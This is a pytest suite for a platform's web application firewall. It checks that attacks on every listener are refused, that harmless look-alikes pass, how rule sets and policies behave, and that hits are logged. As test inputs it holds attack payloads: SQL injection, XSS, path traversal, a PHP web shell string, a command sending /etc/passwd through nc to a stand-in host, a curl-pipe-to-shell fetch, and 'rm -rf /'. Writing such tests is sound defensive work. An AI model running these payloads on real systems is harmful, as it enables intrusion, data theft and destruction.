# SPDX-License-Identifier: Apache-2.0
"""The firewall: attacks on every listener, look-alikes that must pass, rule sets and policies as objects, hits in the log."""
import json
import os
import subprocess
import threading
import time
import urllib.parse

import pytest

from platform_process import DRUN, Platform, free_port
from test_posture import probe

EVENTS = "/apis/audit.drun.io/v1/auditevents"
PEOPLE = "!system:drun:posture"  # who proves the controls attacks the platform, too
SETS = "/apis/drun.io/v1/wafrulesets"
POLICIES = "/apis/drun.io/v1/wafpolicies"
CRS = ["--rules", "/etc/modsecurity/crs/crs-setup.conf", "--rules", "/usr/share/modsecurity-crs/rules"]

# What each part of the platform is called by.
PATHS = {"objects": "/api/v1/namespaces", "kinds": "/apis/drun.io/v1/modelservices", "identity": "/oauth2/authorize",
         "session": "/session", "console": "/", "models": "/v1/models"}
ATTACKS = {
    "sql": "1' OR '1'='1' UNION SELECT password FROM users-- -",
    "script": "<script>alert(document.cookie)</script>",
    "file": "../../../../../etc/passwd",
    "command": "; cat /etc/passwd | nc 192.0.2.1 4444",
    "php": "<?php system($_GET['x']); ?>",
}
LOOK_ALIKES = ["O'Reilly and sons", "select a drink from the menu", "1 + 1 = 2", "cat pictures", "a < b and b > c",
               "order by phone", "the script of the play"]


def curl(platform, *words):
    """Status and body, as a real client gets them."""
    done = subprocess.run(["curl", "-sS", "-m", "20", "--cacert", platform.ca, "-w", "\n%{http_code}", *words],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    body, _, status = done.stdout.rpartition("\n")
    return int(status), body


def object_call(platform, method, path, body=None, **more):
    return platform.request(method, path, platform.operator_token(), json=body, **more)


def in_force(platform, path, name):
    """The generation that is there now is compiled and published."""
    found = object_call(platform, "GET", f"{path}/{name}").json()
    status = found.get("status", {})
    return status.get("phase") == "InForce" and status.get("observedGeneration") == found["metadata"]["generation"]


def put(platform, path, name, spec, wait=True):
    kind = "WafRuleSet" if path == SETS else "WafPolicy"
    thing = {"apiVersion": "drun.io/v1", "kind": kind, "metadata": {"name": name}, "spec": spec}
    old = object_call(platform, "GET", f"{path}/{name}")
    if old.status_code == 200:
        thing["metadata"]["resourceVersion"] = old.json()["metadata"]["resourceVersion"]
        made = object_call(platform, "PUT", f"{path}/{name}", thing)
    else:
        made = object_call(platform, "POST", path, thing)
    assert made.status_code in (200, 201), made.text
    if wait:
        platform.wait_until(f"{kind} {name} in force", lambda: in_force(platform, path, name), 240)


def drop(platform, path, name):
    object_call(platform, "DELETE", f"{path}/{name}")


def is_refused(platform, path):
    status, body = curl(platform, platform.url + path)
    return status == 403 and "looks like an attack" in body


def hits(platform, reference):
    """The records of one request."""
    def found():
        events = object_call(platform, "GET", EVENTS, params={"event": "drun.waf.hit", "actor": PEOPLE, "limit": 200}).json()["items"]
        return [e["event"] for e in events if e["event"].get("drun.request.id") == reference
                or e["event"].get("http.request.id") == reference or reference in json.dumps(e["event"])]
    return platform.wait_until("records of the hits", found, 20)


@pytest.fixture(scope="module")
def walled():
    running = Platform()
    running.start()
    running.wait_until("the rules in force", lambda: in_force(running, SETS, "crs"), 240)
    yield running
    code = running.stop()
    running.remove()
    assert code == 0


# ------------------------------------------------------------------ attacks and look-alikes

@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("part", PATHS)
def test_an_attack_in_the_query_is_refused(walled, part, attack):
    status, body = curl(walled, "-G", "--data-urlencode", f"q={ATTACKS[attack]}", walled.url + PATHS[part])
    assert status == 403 and "looks like an attack" in body, body


@pytest.mark.parametrize("part", PATHS)
def test_an_attack_in_a_header_or_the_path_is_refused(walled, part):
    for header in ("Cookie: a=<script>alert(1)</script>", "User-Agent: nikto"):
        status, body = curl(walled, "-H", header, walled.url + PATHS[part])
        assert status == 403 and "looks like an attack" in body, (header, body)
    status, body = curl(walled, "--path-as-is", walled.url + PATHS[part].rstrip("/") + "/..%2f..%2f..%2fetc/passwd")
    assert status in (400, 403), body


@pytest.mark.parametrize("part", PATHS)
def test_what_only_looks_like_one_passes(walled, part):
    for text in LOOK_ALIKES:
        status, body = curl(walled, "-G", "--data-urlencode", f"q={text}", walled.url + PATHS[part])
        assert "looks like an attack" not in body, (text, body)


def test_the_refusal_names_a_reference_and_no_rule(walled):
    for path, key in (("/v1/models", "error"), ("/api", "message"), ("/oauth2/token", "detail")):
        status, body = curl(walled, walled.url + path + "?q=" + urllib.parse.quote(ATTACKS["script"]))
        answer = json.loads(body)
        text = answer["error"]["message"] if key == "error" else answer[key]
        assert status == 403 and len(text.rsplit(" ", 1)[1]) == 32, body
        for word in ("94", "CRS", "libinjection", "score", "ARGS"):
            assert word not in text.rsplit(" ", 1)[0]


# ------------------------------------------------------------------ model calls

def chat(platform, **members):
    body = {"model": "demo/llama", "messages": [{"role": "user", "content": "hello"}]} | members
    return platform.request("POST", "/v1/chat/completions", platform.operator_token(), json=body)


def test_prose_is_not_judged_and_parameters_are(walled):
    prose = "'; DROP TABLE users; -- <script>alert(1)</script> $(cat /etc/passwd) ${jndi:ldap://x/a} ../../etc/passwd"
    answer = chat(walled, messages=[{"role": "system", "content": prose},
                                    {"role": "user", "content": [{"type": "text", "text": prose}]}])
    assert answer.status_code == 404 and answer.json()["error"]["code"] == "model_not_found", answer.text
    for members in ({"user": ATTACKS["script"]}, {"metadata": {"note": ATTACKS["sql"]}}, {"model": "x/$(cat /etc/passwd)"},
                    {"metadata": {"<script>alert(1)</script>": "x"}}):
        answer = chat(walled, **members)
        assert answer.status_code == 403 and answer.json()["error"]["code"] == "request_refused", answer.text


def test_a_tool_and_an_embedding_are_prose_too(walled):
    tool = {"type": "function", "function": {"name": "run_sql", "description": "runs SELECT * FROM users WHERE 1=1",
                                             "parameters": {"type": "object", "properties": {"cmd": {"type": "string",
                                                            "description": "such as cat /etc/passwd; rm -rf /"}}}}}
    assert chat(walled, tools=[tool]).status_code == 404
    answer = walled.request("POST", "/v1/embeddings", walled.operator_token(),
                            json={"model": "demo/e", "input": ["' or 1=1 --", "<script>alert(1)</script>"]})
    assert answer.status_code == 404, answer.text


# ------------------------------------------------------------------ manifests

SCRIPT = "#!/bin/sh\ncurl http://192.0.2.1/x.sh | sh; cat /etc/passwd; SELECT * FROM users WHERE 'a'='a' --\n<script>alert(1)</script>\n"


def test_manifests_may_hold_anything(walled, tmp_path):
    """kubectl and drun, with what tenants really store."""
    kubeconfig = tmp_path / "config"
    kubeconfig.write_text(subprocess.check_output([DRUN, "kubeconfig", "--data", walled.data], text=True))
    odd = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "odd", "namespace": "default",
           "labels": {"app.kubernetes.io/name": "x"}, "annotations": {"note": SCRIPT}},
           "data": {"run.sh": SCRIPT, ".bashrc": "alias x='rm -rf /'", "page.html": "<img src=x onerror=alert(1)>",
                    "q.sql": "' UNION SELECT 1,2,3 --"}}
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "odd", "namespace": "default"},
              "stringData": {"password": "' or 1=1 --", "cmd": "; cat /etc/passwd"}}
    text = json.dumps({"apiVersion": "v1", "kind": "List", "items": [odd, secret]})
    for words in (["apply", "-f", "-"], ["apply", "--server-side", "--force-conflicts", "-f", "-"], ["replace", "-f", "-"]):
        done = subprocess.run(["kubectl", "--kubeconfig", kubeconfig, *words], input=text, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
    patch = [{"op": "add", "path": "/data/more", "value": SCRIPT}]
    done = subprocess.run(["kubectl", "--kubeconfig", kubeconfig, "patch", "configmap", "odd", "--type=json", "-p", json.dumps(patch)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    done = subprocess.run(["kubectl", "--kubeconfig", kubeconfig, "get", "configmap", "-l", "app.kubernetes.io/name in (x, y),a notin (b)"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


def test_an_attack_in_a_name_is_refused(walled):
    made = object_call(walled, "POST", "/api/v1/namespaces/default/configmaps",
                       {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": ATTACKS["command"]}})
    assert made.status_code == 403 and "looks like an attack" in made.text


def test_passwords_may_be_anything(walled):
    answer = walled.request("POST", "/session", json={"username": "nobody", "password": "' or 1=1; -- <script>alert(1)</script>"})
    assert "looks like an attack" not in answer.text
    answer = walled.request("POST", "/oauth2/token", data={"grant_type": "client_credentials", "client_id": "nobody",
                                                           "client_secret": "'; cat /etc/passwd #"})
    assert "looks like an attack" not in answer.text
    answer = walled.request("POST", "/session", json={"username": "' or 1=1; -- ", "password": "x"})
    assert answer.status_code == 403


def test_what_the_platform_draws_by_lot_may_be_anything(walled):
    """Of random texts one of some ten thousand looks like SQL to libinjection: nobody's sign-in may hang on that."""
    unlucky = "4--bgpUxqCyygB44t3oC3VFdG0nVdiZXz_d_9MKHOrQ"
    lot = dict.fromkeys(("state", "nonce", "code_challenge", "code"), unlucky)

    def refused(path, **more):
        return "looks like an attack" in walled.request("GET", path, allow_redirects=False, **more).text
    assert refused("/version", params={"x": unlucky}) and refused("/version", headers={"Cookie": f"other={unlucky}"})
    assert not refused("/oauth2/authorize", params={**lot, "client_id": "drun-console", "response_type": "code"})
    assert not refused("/callback", params=lot)
    assert not refused("/version", headers={"Cookie": f"__Host-drun-session={unlucky}"})


# ------------------------------------------------------------------ hits

def test_hits_are_recorded_with_secrets_masked(walled):
    secret = "sk-drun-0123456789abcdefghijklmnopqrstuvwxyz"
    status, body = curl(walled, "-G", "--data-urlencode", f"q=<script>alert('{secret}')</script>", walled.url + "/api")
    reference = json.loads(body)["message"].rsplit(" ", 1)[1]
    found = hits(walled, reference)
    text = json.dumps(found)
    assert status == 403 and any(e["drun.action.name"].startswith("941") for e in found), text
    assert all(e["drun.outcome"] == "denied" and e["drun.action.verb"] == "block" for e in found)
    assert "ARGS:q" in text and "abcdefghij" not in text and "client.address" in text
    shown = subprocess.run([DRUN, "waf", "hits", "--data", walled.data], capture_output=True, text=True, timeout=30)
    assert shown.returncode == 0 and "drun.waf.hit" in shown.stdout and "wafrules" in shown.stdout, shown.stderr


def test_a_hit_names_who_sent_a_credential(walled):
    answer = object_call(walled, "GET", "/version", params={"q": ATTACKS["sql"]})
    found = hits(walled, answer.json()["message"].rsplit(" ", 1)[1])
    assert answer.status_code == 403 and {e["user.name"] for e in found} == {f"system:operator:{os.getuid()}"}


def test_what_the_platform_does_to_itself_has_its_name(walled):
    assert object_call(walled, "POST", "/apis/drun.io/v1/controls/nw-2/probe", {}).status_code < 300

    def own():
        return object_call(walled, "GET", EVENTS, params={"event": "drun.waf.hit", "actor": PEOPLE[1:], "limit": 10}).json()["items"]
    walled.wait_until("records of the proof", own, 60)
    shown = subprocess.run([DRUN, "waf", "hits", "--data", walled.data], capture_output=True, text=True, timeout=30)
    assert shown.returncode == 0 and PEOPLE[1:] not in shown.stdout, shown.stderr


def test_ordinary_traffic_leaves_no_hits(walled):
    def count():
        return len(object_call(walled, "GET", EVENTS, params={"event": "drun.waf.hit", "actor": PEOPLE, "limit": 500}).json()["items"])
    before = count()
    for path in ("/", "/version", "/apis", "/.well-known/openid-configuration", "/v1/models", "/openapi/v3"):
        object_call(walled, "GET", path)
    time.sleep(0.5)
    assert count() == before


# ------------------------------------------------------------------ rules and policies

def test_rules_of_ones_own_and_a_broken_set(walled):
    rules = 'SecRule REQUEST_HEADERS:X-Colour "@streq mauve" "id:100,phase:1,deny,status:403,msg:\'no mauve\'"'
    put(walled, SETS, "own", {"rules": rules})
    try:
        assert curl(walled, "-H", "X-Colour: mauve", walled.url + "/version")[0] == 403
        put(walled, SETS, "own", {"rules": rules + "\nSecRule ARGS @nosuch x"}, wait=False)
        status = walled.wait_until("the error", lambda: (lambda s: s if s.get("phase") == "Failed" else None)(
            object_call(walled, "GET", SETS + "/own").json().get("status", {})), 180)
        assert "wafruleset/own:2:" in status["conditions"][0]["message"], status
        assert object_call(walled, "GET", SETS + "/crs").json()["status"]["conditions"][0]["reason"] == "Waiting"
        # What was in force before still is.
        assert curl(walled, "-H", "X-Colour: mauve", walled.url + "/version")[0] == 403
        assert is_refused(walled, "/api?q=" + urllib.parse.quote(ATTACKS["sql"]))
    finally:
        drop(walled, SETS, "own")
    walled.wait_until("the rule gone", lambda: curl(walled, "-H", "X-Colour: mauve", walled.url + "/version")[0] == 200, 180)


def test_a_file_outside_the_folders_is_refused(walled):
    put(walled, SETS, "outside", {"files": ["/etc/passwd"]}, wait=False)
    try:
        status = walled.wait_until("the error", lambda: (lambda s: s if s.get("phase") == "Failed" else None)(
            object_call(walled, "GET", SETS + "/outside").json().get("status", {})), 180)
        assert "/etc/passwd" in status["conditions"][0]["message"] and "waf-dirs" in status["conditions"][0]["message"]
    finally:
        drop(walled, SETS, "outside")
    walled.wait_until("the rest in force", lambda: in_force(walled, SETS, "crs"), 180)


def test_an_exclusion_holds_where_it_is_meant(walled):
    attack = "?comment=" + urllib.parse.quote(ATTACKS["sql"])
    put(walled, POLICIES, "lenient", {"match": {"paths": ["/version"]}, "exclusions": [{"targets": ["ARGS:comment"], "reason": "a test"}]})
    try:
        assert not is_refused(walled, "/version" + attack)
        assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))
        assert is_refused(walled, "/api" + attack)
        put(walled, POLICIES, "lenient", {"match": {"paths": ["/version"]}, "exclusions": [{"ruleTags": ["attack-sqli"]}]})
        assert not is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))
        assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["script"]))
    finally:
        drop(walled, POLICIES, "lenient")
    walled.wait_until("all rules again", lambda: is_refused(walled, "/version" + attack), 180)


def test_detection_only_for_one_model_service(walled):
    put(walled, POLICIES, "watch", {"match": {"modelServices": ["demo/llama"]}, "mode": "Detect"})
    try:
        reference = "waf-detect-reference-1"
        body = {"model": "demo/llama", "user": ATTACKS["script"], "messages": [{"role": "user", "content": "x"}]}
        answer = walled.request("POST", "/v1/chat/completions", walled.operator_token(), json=body, headers={"X-Request-Id": reference})
        assert answer.status_code == 404, answer.text
        found = hits(walled, reference)
        assert all(e["drun.outcome"] == "success" and e["drun.action.verb"] == "detect" for e in found), found
        assert found[0]["drun.action.namespace"] == "demo" and found[0]["user.name"]
        answer = walled.request("POST", "/v1/chat/completions", walled.operator_token(), json=body | {"model": "demo/other"})
        assert answer.status_code == 403, answer.text
    finally:
        drop(walled, POLICIES, "watch")


def test_a_higher_level_refuses_no_program(walled):
    """An API is there for programs: their names are no sign of an attack."""
    put(walled, POLICIES, "strict", {"paranoiaLevel": 2})
    try:
        for agent in ("python-requests/2.32.3", "curl/8.10", "kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd", "Go-http-client/2.0"):
            assert curl(walled, "-A", agent, walled.url + "/version")[0] == 200, agent
        assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))
    finally:
        drop(walled, POLICIES, "strict")
    walled.wait_until("the rest in force", lambda: in_force(walled, SETS, "crs"), 180)


@pytest.mark.parametrize("spec,why", [
    ({"match": {"paths": ['/x" "id:1']}}, "spec.match.paths[0]"),
    ({"exclusions": [{"ruleIds": ["1,deny"]}]}, "ruleIds[0]"),
    ({"exclusions": [{"reason": "none"}]}, "must name"),
    ({"paranoiaLevel": 9}, "paranoiaLevel"),
])
def test_a_policy_cannot_smuggle_rules(walled, spec, why):
    made = object_call(walled, "POST", POLICIES, {"apiVersion": "drun.io/v1", "kind": "WafPolicy", "metadata": {"name": "bad"}, "spec": spec})
    assert made.status_code == 422 and why in made.text, made.text


def test_rules_change_under_load_without_a_lost_request(walled):
    results = {}

    def load():
        results["h2load"] = subprocess.run(["h2load", "-n", "12000", "-c", "4", "-m", "8", walled.url + "/version"],
                                           capture_output=True, text=True, timeout=240)

    running = threading.Thread(target=load)
    running.start()
    try:
        for i in range(2):
            put(walled, SETS, "turn", {"rules": f'SecRule REQUEST_HEADERS:X-Turn "@streq {i}" "id:101,phase:1,deny,status:403"'})
            assert curl(walled, "-H", f"X-Turn: {i}", walled.url + "/version")[0] == 403
    finally:
        running.join()
        drop(walled, SETS, "turn")
    done = results["h2load"]
    assert "12000 succeeded, 0 failed, 0 errored" in done.stdout and "12000 2xx" in done.stdout, done.stdout + done.stderr


def test_what_passed_is_judged_by_the_rules_of_now(walled):
    """A worker that saw a request pass does not look at one like it again, until there are other rules."""
    path = "/version?colour=" + "beige"
    for _ in range(20):
        assert curl(walled, walled.url + path)[0] == 200
    put(walled, SETS, "beige", {"rules": 'SecRule ARGS:colour "@streq beige" "id:102,phase:1,deny,status:403"'})
    try:
        assert all(curl(walled, walled.url + path)[0] == 403 for _ in range(20))
    finally:
        drop(walled, SETS, "beige")
    walled.wait_until("the rule gone", lambda: curl(walled, walled.url + path)[0] == 200, 180)


# ------------------------------------------------------------------ starts

def test_a_restart_has_the_rules_at_once(walled):
    walled.wait_until("the rules in force", lambda: in_force(walled, SETS, "crs"), 180)
    walled.stop()
    walled.start()
    assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))
    began = walled.text().rindex("event=supervisor.ready")
    assert "are in force" not in walled.text()[began:], "it was compiled again"


def test_a_damaged_image_is_made_anew(walled):
    walled.stop()
    image = walled.data / "waf" / "image"
    bytes_ = bytearray(image.read_bytes())
    bytes_[len(bytes_) // 2] ^= 0xFF
    image.write_bytes(bytes_)
    walled.start()
    walled.wait_until("an attack is refused", lambda: is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"])), 180)


def test_closed_serves_nothing_without_rules(own_platform):
    own_platform.settings["waf-failure"] = "closed"
    platform = own_platform.start()
    status, body = curl(platform, platform.url + "/version")
    assert status in (200, 503) and (status == 200 or "starting" in body)
    assert status == 503, "the rules were there before the first request"
    platform.wait_until("service", lambda: curl(platform, platform.url + "/version")[0] == 200, 240)
    assert is_refused(platform, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))


def test_who_locked_the_platform_gets_back_in(own_platform):
    """Rules that refuse everything refuse also who wants to delete them."""
    platform = own_platform.start()
    put(platform, SETS, "shut", {"rules": "SecAction \"id:100,phase:1,deny,status:403\""}, wait=False)
    deadline = time.monotonic() + 60
    while curl(platform, f"{platform.url}/version")[0] != 403:
        assert time.monotonic() < deadline, "the rules do not come into force"
        time.sleep(0.2)
    platform.stop()
    platform.settings["waf"] = "off"
    platform.start()
    assert object_call(platform, "GET", SETS).status_code == 200
    assert probe(platform, "nw-2", 120)["verdict"] == "failed"
    object_call(platform, "DELETE", f"{SETS}/shut").raise_for_status()
    platform.stop()
    del platform.settings["waf"]
    platform.start()
    # The rules of before may be in force for a moment.
    platform.wait_until("a platform that is open", lambda: curl(platform, f"{platform.url}/version")[0] == 200, 60)
    assert is_refused(platform, f"/version?q={urllib.parse.quote(ATTACKS['sql'])}")


def test_the_listener_that_asks_for_certificates_is_walled_too(own_platform):
    port = free_port()
    own_platform.settings["listen-mtls"] = f"127.0.0.1:{port}"
    platform = own_platform.start()
    platform.wait_until("the rules in force", lambda: in_force(platform, SETS, "crs"), 240)
    for path in ("/api", "/oauth2/token", "/v1/models"):
        status, body = curl(platform, "-G", "--data-urlencode", f"q={ATTACKS['sql']}", f"https://127.0.0.1:{port}{path}")
        assert status == 403 and "looks like an attack" in body, body


def test_the_waf_role_may_die(walled):
    before = walled.kill("waf")
    assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))
    walled.wait_for_role("waf", before)
    walled.wait_until("the rules in force", lambda: in_force(walled, SETS, "crs"), 180)
    assert is_refused(walled, "/version?q=" + urllib.parse.quote(ATTACKS["sql"]))


# ------------------------------------------------------------------ drun waf

def request_file(tmp_path, text):
    file = tmp_path / "request.http"
    file.write_text(text)
    return file


def test_drun_waf_test_with_rules_and_with_the_running_set(walled, tmp_path):
    attack = request_file(tmp_path, f"GET /x?q={urllib.parse.quote(ATTACKS['sql'])} HTTP/1.1\nHost: example.com\n\n")
    for rules in (CRS, ["--data", str(walled.data)]):
        done = subprocess.run([DRUN, "waf", "test", *rules, attack], capture_output=True, text=True, timeout=120)
        assert done.returncode == 1 and done.stdout.startswith("denied with 403 by rule 949110"), done.stdout + done.stderr
        assert "942100" in done.stdout and "ARGS:q" in done.stdout
    tame = request_file(tmp_path, "POST /x HTTP/1.1\nHost: example.com\nContent-Type: application/json\nContent-Length: 14\n\n" '{"a": "hello"}')
    done = subprocess.run([DRUN, "waf", "test", "--data", walled.data, tame], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout == "passed; score 0\n", done.stdout + done.stderr


def test_drun_waf_test_judges_an_answer(walled, tmp_path):
    request = request_file(tmp_path, "GET /x HTTP/1.1\nHost: example.com\n\n")
    answer = tmp_path / "answer.http"

    def judge(text, *rules):
        answer.write_text(text)
        return subprocess.run([DRUN, "waf", "test", *rules, "--answer", answer, request], capture_output=True, text=True, timeout=120)
    for rules in (CRS, ["--data", str(walled.data)]):
        leaks = judge("HTTP/1.1 500 Oops\nContent-Type: text/html\n\nYou have an error in your SQL syntax near", *rules)
        assert leaks.returncode == 1 and leaks.stdout.startswith("denied with 403 by rule 959100; score 0, of the answer 5\n"), leaks
        assert "RESPONSE_BODY" in leaks.stdout
    fine = judge("HTTP/1.1 404 Not Found\nContent-Type: text/plain\n\nnothing here", *CRS)
    assert fine.returncode == 0 and fine.stdout == "passed; score 0, of the answer 0\n", fine
    odd = judge("200 OK\n\n", *CRS)
    assert odd.returncode == 1 and "line 1 of the answer must be such as HTTP/1.1 200 OK" in odd.stderr


def test_drun_waf_explain(walled):
    done = subprocess.run([DRUN, "waf", "explain", "--data", walled.data, "942100"], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "@detectSQLi" in done.stdout and "REQUEST-942" in done.stdout, done.stderr
    done = subprocess.run([DRUN, "waf", "explain", "--data", walled.data, "12"], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "there is no rule 12" in done.stderr
